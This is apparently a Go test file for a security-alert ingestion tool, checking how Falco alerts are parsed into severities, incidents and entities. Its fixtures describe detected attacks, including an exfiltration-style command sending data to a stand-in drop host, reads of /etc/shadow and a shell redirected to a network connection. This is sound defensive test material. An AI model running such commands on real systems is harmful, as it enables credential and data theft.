package ingest_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/m-mizutani/AlertResponder/internal/envelope"
	"github.com/m-mizutani/AlertResponder/internal/ingest"
	responder "github.com/m-mizutani/AlertResponder/lib"
)

func TestFalco(t *testing.T) {
	for name, want := range map[string]good{
		"shell": {
			name: "Terminal shell in container", rule: "Terminal shell in container", severity: 30,
			first: "2026-05-04T09:14:22Z", last: "2026-05-04T09:14:22Z", describes: "\nTags: T1059, container, mitre_execution, shell",
			all: []string{"process /usr/bin/bash local,subject", "username root local,subject", "container 4c1b7e90d2aa local",
				"image registry.example.com/shop/checkout:2.8.1 local", "hostname checkout-6d5f7c9b8-x2k4p local",
				"hostname ip-10-0-12-47.eu-west-1.compute.internal local"},
		},
		"redirect": {
			name: "Redirect STDOUT/STDIN to Network Connection in Container", rule: "Redirect STDOUT/STDIN to Network Connection in Container", severity: 30,
			first: "2026-05-04T10:02:11Z", describes: "fd.sip=203.0.113.66",
			all: []string{"ipaddr 203.0.113.66 remote,server", "ipaddr 10.0.4.15 local,client", "process /bin/dash local,subject",
				"username www-data local,subject", "container 9f0e1d2c3b4a local", "image docker.io/library/php local", "hostname web-1 local"},
		},
		"sensitive-file": {
			name: "Read sensitive file untrusted", rule: "Read sensitive file untrusted", severity: 50,
			describes: "\nCommand: python3 /tmp/collect.py --to https://drop.example.net/up\n",
			all: []string{"filepath /etc/shadow file,object", "process /usr/bin/python3.11 local,subject", "username deploy local,subject",
				"username alice local,subject", "hostname db-1 local", "url https://drop.example.net/up extracted", "domain drop.example.net extracted"},
		},
		"k8s-audit": {
			name: "Create Privileged Pod", rule: "Create Privileged Pod", severity: 50, describes: "Pod started with privileged container",
			all: []string{"ipaddr 198.51.100.7 remote,client", "username kubernetes-admin local,subject", "hostname debug-shell local,object",
				"image alpine:3.20 local,object", "image registry.example.com/tools/debug:1 local,object"},
		},
		"cloudtrail": {
			name: "Console Login Without MFA", rule: "Console Login Without MFA", severity: 90, account: "111122223333", region: "eu-west-1",
			all: []string{"ipaddr 198.51.100.23 remote,client", "username deployer local,subject"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			want.source = "falco"
			want.test(t, one(t, read(t, "falco/"+name+".json")).Alert)
		})
	}
}

// text gives a message of Falco as Falcosidekick publishes it by default.
func text(t *testing.T, body string) envelope.Delivery {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(body))
	dec.UseNumber()
	var o struct {
		Output, Priority, Rule, Source, Hostname string
		Tags                                     []string
		Fields                                   map[string]any `json:"output_fields"`
	}
	require.NoError(t, dec.Decode(&o))
	d := delivery(o.Output)
	d.Attributes = map[string]string{"priority": o.Priority, "rule": o.Rule, "source": o.Source, "hostname": o.Hostname, "tags": strings.Join(o.Tags, ",")}
	for name, v := range o.Fields {
		name = strings.NewReplacer("[", ".", "]", "").Replace(name)
		switch v := v.(type) {
		case string:
			d.Attributes[name] = v
		case json.Number:
			d.Attributes[name] = v.String()
		}
	}
	return d
}

// A text with attributes is the same alert as the JSON, and of the same incident.
func TestFalcoText(t *testing.T) {
	for name, body := range fixtures(t) {
		if !strings.HasPrefix(name, "falco/") || !strings.HasSuffix(name, ".json") {
			continue
		}
		want := one(t, body)
		list := ingest.Alerts(text(t, body))
		require.Len(t, list, 1, name)
		got := list[0]
		assert.Equal(t, want.Fingerprint, got.Fingerprint, name)
		assert.Equal(t, text(t, body).Body, got.Alert.Raw, "verbatim")
		if !strings.Contains(body, "evt.time") {
			assert.Equal(t, noon, got.Alert.Timestamp.LastTime(), "when it was sent")
			got.Alert.Timestamp = want.Alert.Timestamp
		}
		got.Alert.Raw, want.Alert.Raw = "", ""
		assert.Equal(t, want.Alert, got.Alert, name)
	}
}

// The time of the event is in nanoseconds. A field may overwrite the source; without its attributes a text is nobody's.
func TestFalcoAttributes(t *testing.T) {
	d := text(t, read(t, "falco/shell.json"))
	d.Attributes["source"], d.Attributes["evt.time"] = "10.1.1.1", "1777886062118394201"
	a := ingest.Alerts(d)[0].Alert
	assert.Equal(t, "falco", a.Source)
	assert.Equal(t, "2026-05-04T09:14:22.118Z", a.Timestamp.LastTime().Format("2006-01-02T15:04:05.999Z07:00"))
	delete(d.Attributes, "evt.time")
	d.Attributes["evt.time.iso8601"] = "1777886062118394201"
	assert.Equal(t, a.Timestamp, ingest.Alerts(d)[0].Alert.Timestamp)
	for _, name := range []string{"rule", "priority", "source"} {
		d := text(t, read(t, "falco/shell.json"))
		delete(d.Attributes, name)
		assert.Equal(t, "unparsed", ingest.Alerts(d)[0].Alert.Rule, name)
	}
}

func TestFalcoIncidents(t *testing.T) {
	shell := read(t, "falco/shell.json")
	again := with(t, with(t, shell, "09:14:22", "10:20:30"), "5b2c7c1e", "00000000")
	incident{
		first: shell,
		same: []string{shell, again, with(t, shell, "4c1b7e90d2aa", "ffffffffffff"), with(t, shell, "34817", "34999"),
			with(t, shell, `"uuid":"5b2c7c1e-6b0d-4f5e-9a3e-2f1d8c7b6a50",`, ""), with(t, shell, `"priority":"Notice"`, `"priority":"Critical"`)},
		others: []string{with(t, shell, "x2k4p", "qqqqq"), with(t, shell, `"k8s.ns.name":"shop"`, `"k8s.ns.name":"staging"`),
			with(t, shell, "ip-10-0-12-47", "ip-10-0-12-48"), with(t, shell, `"proc.name":"bash"`, `"proc.name":"zsh"`),
			with(t, shell, `"rule":"Terminal shell in container"`, `"rule":"Another"`)},
	}.test(t)
	redirect := read(t, "falco/redirect.json")
	incident{
		first:  redirect,
		same:   []string{with(t, redirect, "41514", "50000"), with(t, redirect, "9f0e1d2c3b4a", "ffffffffffff")},
		others: []string{with(t, redirect, "203.0.113.66", "203.0.113.67"), with(t, redirect, `"blog"`, `"shop"`)},
	}.test(t)
	file := read(t, "falco/sensitive-file.json")
	incident{
		first:  file,
		same:   []string{with(t, file, "deploy", "root"), with(t, file, "/tmp/collect.py", "/tmp/other.py")},
		others: []string{with(t, file, "/etc/shadow", "/etc/sudoers"), with(t, file, "db-1", "db-2")},
	}.test(t)
	audit := read(t, "falco/k8s-audit.json")
	incident{
		first:  audit,
		same:   []string{with(t, audit, "000000000001", "000000000002"), with(t, audit, "falco-k8saudit-5b6d7c", "falco-k8saudit-9")},
		others: []string{with(t, audit, "debug-shell", "other"), with(t, audit, "kubernetes-admin", "bob"), with(t, audit, `"default"`, `"prod"`)},
	}.test(t)
	login := read(t, "falco/cloudtrail.json")
	incident{
		first:  login,
		same:   []string{with(t, login, "555555555555", "666666666666")},
		others: []string{with(t, login, "198.51.100.23", "198.51.100.24"), with(t, login, "deployer", "bob"), with(t, login, "111122223333", "444455556666")},
	}.test(t)
}

// What tells two alerts of one rule apart where there is no file and no container, and what does not.
func TestFalcoKeys(t *testing.T) {
	alert := func(fields string) string {
		return `{"rule":"r","priority":"Error","output":"o","hostname":"h","output_fields":{` + fields + `}}`
	}
	for _, fields := range []string{`"proc.exepath":"/bin/one"`, `"proc.name":"sh","evt.arg.target":"one"`, `"proc.name":"sh","evt.arg.path":"one"`, `"proc.name":"sh","fd.name":"one"`,
		`"proc.name":"sh","fs.path.name":"/one"`, `"proc.name":"sh","k8smeta.pod.name":"one"`, `"proc.name":"sh","k8smeta.ns.name":"one"`, `"proc.name":"sh","container.id":"one"`,
		`"ct.user":"one"`, `"ct.user":"a","ct.request.username":"one"`} {
		incident{first: alert(fields), others: []string{with(t, alert(fields), "one", "two")}}.test(t)
	}
	for _, fields := range []string{`"proc.name":"sh","fd.lip":"198.51.100.1","fd.rip":"203.0.113.5"`, `"proc.name":"sh","fd.cip":"198.51.100.1","fd.sip":"203.0.113.5"`} {
		incident{first: alert(fields), others: []string{with(t, alert(fields), "203.0.113.5", "203.0.113.6")}}.test(t)
	}
	for _, name := range []string{"evt.time", "jevt.time", "ct.request", "ct.response", "ct.id", "ct.time", "ct.requestid", "ct.sharedeventid", "ct.useragent", "ct.info", "ct.errormessage",
		"ct.additionaleventdata", "ka.auditid", "ka.uri", "ka.useragent", "ka.stage", "ka.response.code", "gcp.time", "gcp.request", "gcp.userAgent", "gcp.authorizationInfo",
		"okta.published", "okta.authentication.sessionid", "okta.client.geo.city", "okta.useragent.os", "okta.mfa.failure.countlast", "okta.transaction.id"} {
		first := alert(`"ct.user":"a","` + name + `":"one"`)
		incident{first: first, same: []string{with(t, first, `"one"`, `"two"`)}}.test(t)
	}
	a := one(t, alert(`"gcp.user":"a@example.com","gcp.projectId":"shop-1","gcp.location":"europe-west1"`)).Alert
	assert.Equal(t, []string{"shop-1", "europe-west1"}, []string{a.Account, a.Region})
}

// Attacker and own side are never confused, whoever opened the connection and whatever the alert says of it.
func TestFalcoConnections(t *testing.T) {
	for name, c := range map[string]struct {
		fields string
		want   []string
	}{
		"outbound":             {`"evt.type":"connect","fd.name":"10.0.0.5:40000->203.0.113.5:443"`, []string{"ipaddr 10.0.0.5 local,client", "ipaddr 203.0.113.5 remote,server"}},
		"inbound":              {`"evt.type":"accept4","fd.name":"203.0.113.5:40000->10.0.0.5:22"`, []string{"ipaddr 10.0.0.5 local,server", "ipaddr 203.0.113.5 remote,client"}},
		"inbound, all public":  {`"evt.type":"accept","fd.cip":"203.0.113.5","fd.sip":"198.51.100.1"`, []string{"ipaddr 198.51.100.1 local,server", "ipaddr 203.0.113.5 remote,client"}},
		"inbound by accept4":   {`"evt.type":"accept4","fd.cip":"203.0.113.5","fd.sip":"198.51.100.1"`, []string{"ipaddr 198.51.100.1 local,server", "ipaddr 203.0.113.5 remote,client"}},
		"outbound, all public": {`"evt.type":"connect","fd.cip":"198.51.100.1","fd.sip":"203.0.113.5"`, []string{"ipaddr 198.51.100.1 local,client", "ipaddr 203.0.113.5 remote,server"}},
		"by port":              {`"evt.type":"sendto","fd.lport":"22","fd.rport":40000,"fd.name":"203.0.113.5:40000->198.51.100.1:22"`, []string{"ipaddr 198.51.100.1 local,server", "ipaddr 203.0.113.5 remote,client"}},
		"by side":              {`"fd.lip":"198.51.100.1","fd.rip":"203.0.113.5","fd.name":"203.0.113.5:1->198.51.100.1:2"`, []string{"ipaddr 198.51.100.1 local,server", "ipaddr 203.0.113.5 remote,client"}},
		"sides only":           {`"fd.lip":"198.51.100.1","fd.rip":"203.0.113.5"`, []string{"ipaddr 198.51.100.1 local", "ipaddr 203.0.113.5 remote"}},
		"the other side only":  {`"evt.type":"accept","fd.rip":"203.0.113.5"`, []string{"ipaddr 203.0.113.5 remote,client"}},
		"the server only":      {`"evt.type":"sendmsg","fd.sip":"203.0.113.5"`, []string{"ipaddr 203.0.113.5 remote,server"}},
		"nobody knows":         {`"evt.type":"sendto","fd.name":"203.0.113.5:1->198.51.100.1:2"`, []string{"ipaddr 203.0.113.5 client", "ipaddr 198.51.100.1 server"}},
		"all private":          {`"evt.type":"connect","fd.name":"10.0.0.5:40000->10.0.0.6:443"`, []string{"ipaddr 10.0.0.5 local,client", "ipaddr 10.0.0.6 local,server"}},
		"IPv6":                 {`"evt.type":"connect","fd.name":"fd00::5:40000->2001:db8::5:443"`, []string{"ipaddr fd00::5 local,client", "ipaddr 2001:db8::5 remote,server"}},
		"IPv6 in brackets":     {`"evt.type":"connect","fd.name":"[fd00::5]:40000->[2001:db8::5]:443"`, []string{"ipaddr fd00::5 local,client", "ipaddr 2001:db8::5 remote,server"}},
		"mapped":               {`"evt.type":"accept","fd.name":"::ffff:203.0.113.5:40000->::ffff:10.0.0.5:22"`, []string{"ipaddr 10.0.0.5 local,server", "ipaddr 203.0.113.5 remote,client"}},
		"a name":               {`"evt.type":"connect","fd.rip":"203.0.113.5","fd.rip.name":"c2.example.net"`, []string{"ipaddr 203.0.113.5 remote,server", "domain c2.example.net remote"}},
		"listening":            {`"evt.type":"listen","fd.name":"0.0.0.0:4444"`, nil},
		"loopback":             {`"evt.type":"connect","fd.name":"127.0.0.1:40000->127.0.0.1:6379"`, nil},
		"a pipe":               {`"evt.type":"read","fd.name":"pipe:[12]"`, nil},
		"no address":           {`"fd.rip":"<NA>","fd.name":"->","fd.sip":7`, nil},
	} {
		body := `{"rule":"r","priority":"Error","output":"o","time":"2026-05-04T03:02:01Z","output_fields":{"proc.name":"nc",` + c.fields + `}}`
		var got []string
		for _, a := range roles(one(t, body).Alert) {
			if a != "process nc local,subject" {
				got = append(got, a)
			}
		}
		assert.ElementsMatch(t, c.want, got, name)
	}
}

// By way of Alertmanager it is the same incident again, although each event has labels of its own.
func TestFalcoByAlertmanager(t *testing.T) {
	body := read(t, "alertmanager/falco.json")
	const rule = "Redirect STDOUT/STDIN to Network Connection in Container"
	good{name: rule, rule: rule, source: "alertmanager", link: "https://alertmanager.example.com", severity: 90, first: "2026-05-04T10:20:00Z", describes: "Redirect stdout/stdin",
		all: []string{"ipaddr 10.0.12.47 local,client", "ipaddr 203.0.113.66 remote,server", "process /usr/bin/bash local,subject", "username www-data local,subject",
			"container 4c1b7e90d2aa local", "image registry.example.com/blog:5.9 local", "hostname web-3 local"},
	}.test(t, one(t, body).Alert)
	incident{
		first:  body,
		same:   []string{with(t, body, "1777890000", "1777890999"), with(t, body, "41514", "50000"), with(t, body, "4711", "4712"), with(t, body, `"status": "firing"`, `"status": "resolved"`)},
		others: []string{with(t, body, "203.0.113.66", "203.0.113.67"), with(t, body, "web-3", "web-4"), with(t, body, rule, "Another"), with(t, body, `"container_name": "blog"`, `"container_name": "shop"`)},
	}.test(t)
	assert.NotEqual(t, rule, one(t, with(t, body, `"source": "falco"`, `"source": "x"`)).Alert.Rule)
	assert.True(t, one(t, with(t, with(t, body, rule, "Test rule"), `"proc_name": "bash"`, `"proc_name": "falcosidekick"`)).Alert.Sample)
}

func TestFalcoPriorities(t *testing.T) {
	for p, want := range map[string]float64{"Emergency": 100, "ALERT": 95, "critical": 90, "Error": 70, "Warning": 50, "Notice": 30, "Informational": 10, "info": 10, "Debug": 5} {
		a := one(t, `{"rule":"r","output":"o","priority":"`+p+`"}`).Alert
		assert.Equal(t, "falco", a.Source)
		assert.Equal(t, want, a.Severity, p)
	}
	assert.Equal(t, "unknown", one(t, `{"rule":"r","output":"o","priority":"P1"}`).Alert.Source)
}

// The time of an event is one of today, in whatever unit.
func TestFalcoTime(t *testing.T) {
	for _, n := range []string{"1777863721000000000", "1777863721000000", "1777863721000", "1777863721", `"1777863721000000"`} {
		a := one(t, `{"rule":"r","output":"o","priority":"Error","output_fields":{"evt.time":`+n+`}}`).Alert
		assert.Equal(t, "2026-05-04T03:02:01Z", a.Timestamp.InitTime().Format("2006-01-02T15:04:05Z07:00"), n)
	}
}

// Other forms: without output, or without fields; other plugins; and the test that Falcosidekick sends on demand.
func TestFalcoForms(t *testing.T) {
	a := one(t, `{"rule":"r","priority":"Error","time":"2026-05-04T03:02:01Z","hostname":"h","message":"Opened by bash","output_fields":{"proc.name":"bash"}}`).Alert
	assert.Equal(t, "Opened by bash", a.Description)
	a = one(t, `{"rule":"r","priority":"Error","hostname":"h","output":"Error Connected to 203.0.113.9 by bash"}`).Alert
	assert.Equal(t, []string{"hostname h local", "ipaddr 203.0.113.9 extracted"}, roles(a))
	a = one(t, `{"rule":"r","priority":"Error","output":"o","output_fields":{"proc.name":"sh","k8s.pod.name":"p","k8s.pod.ip":"10.1.2.3"}}`).Alert
	assert.Equal(t, []string{"process sh local,subject", "hostname p local", "ipaddr 10.1.2.3 local"}, roles(a))
	a = one(t, `{"rule":"r","priority":"Warning","source":"okta","hostname":"falco-0","output":"o","output_fields":{"okta.actor.alternateid":"alice@example.com",
		"okta.client.ip":"203.0.113.9","okta.target.user.alternateid":"bob@example.com","okta.published":"now"}}`).Alert
	assert.ElementsMatch(t, []string{"ipaddr 203.0.113.9 remote,client", "username alice@example.com local,subject", "username bob@example.com local,object"}, roles(a))
	a = one(t, `{"rule":"r","priority":"Warning","source":"aws_cloudtrail","output":"o","output_fields":{"ct.srcip":"AWS Internal","ct.user":"<NA>",
		"ct.user.arn":"arn:aws:sts::111122223333:assumed-role/admin/alice","s3.bucket":"example-backups","ct.user.accountid":"111122223333"}}`).Alert
	assert.ElementsMatch(t, []string{"arn arn:aws:sts::111122223333:assumed-role/admin/alice local,subject", "bucket example-backups local,object"}, roles(a))
	assert.Equal(t, "111122223333", a.Account)
	for fields, want := range map[string][]string{
		`"proc.name":"sh","k8s.node.name":"node-7"`:                                                                     {"process sh local,subject", "hostname node-7 local"},
		`"proc.name":"sh","k8smeta.node.name":"node-8"`:                                                                 {"process sh local,subject", "hostname node-8 local"},
		`"proc.name":"sh","k8smeta.pod.name":"p"`:                                                                       {"process sh local,subject", "hostname p local"},
		`"proc.name":"ln","evt.arg.target":"/etc/shadow","evt.arg.linkpath":"/tmp/x"`:                                   {"process ln local,subject", "filepath /etc/shadow file,object", "filepath /tmp/x file,object"},
		`"proc.name":"mv","evt.arg.oldpath":"/bin/ls","evt.arg.newpath":"/bin/.ls"`:                                     {"process mv local,subject", "filepath /bin/ls file,object", "filepath /bin/.ls file,object"},
		`"ka.user.name":"bob","ka.impuser.name":"system:admin"`:                                                         {"username bob local,subject", "username system:admin local,object"},
		`"gcp.user":"a@example.com","gcp.callerIP":"203.0.113.9","gcp.compute.instanceId":"8045211"`:                    {"ipaddr 203.0.113.9 remote,client", "username a@example.com local,subject", "instance 8045211 local,object"},
		`"gcp.storage.bucket":"example-logs","gcp.iam.serviceAccount":"build@example.com"`:                              {"bucket example-logs local,object", "username build@example.com local,object"},
		`"github.user":"alice","github.collaborator.name":"mallory"`:                                                    {"username alice local,subject", "username mallory local,object"},
		`"ct.user":"deployer","ct.user.arn":"arn:aws:iam::111122223333:user/deployer","ct.request.username":"backdoor"`: {"username deployer local,subject", "username backdoor local,object"},
	} {
		assert.ElementsMatch(t, want, roles(one(t, `{"rule":"r","priority":"Error","output":"o","output_fields":{`+fields+`}}`).Alert), fields)
	}
	test := `{"output":"This is a test from falcosidekick","source":"internal","priority":"Debug","hostname":"falcosidekick","rule":"Test rule","time":"2026-05-04T03:02:01Z","output_fields":{"proc.name":"falcosidekick","user.name":"falcosidekick"},"tags":["test"]}`
	assert.True(t, one(t, test).Alert.Sample)
	assert.False(t, one(t, with(t, test, `"proc.name":"falcosidekick"`, `"proc.name":"bash"`)).Alert.Sample)
	assert.Equal(t, responder.State(""), a.State)
	for _, nobody := range []string{"system:anonymous", "system:unauthenticated"} {
		a = one(t, `{"rule":"r","priority":"Warning","source":"k8s_audit","output":"o","output_fields":{"ka.user.name":"`+nobody+`"}}`).Alert
		assert.Empty(t, a.Attrs)
	}
}

func FuzzFalco(f *testing.F) { fuzzSender(f, "falco/") }
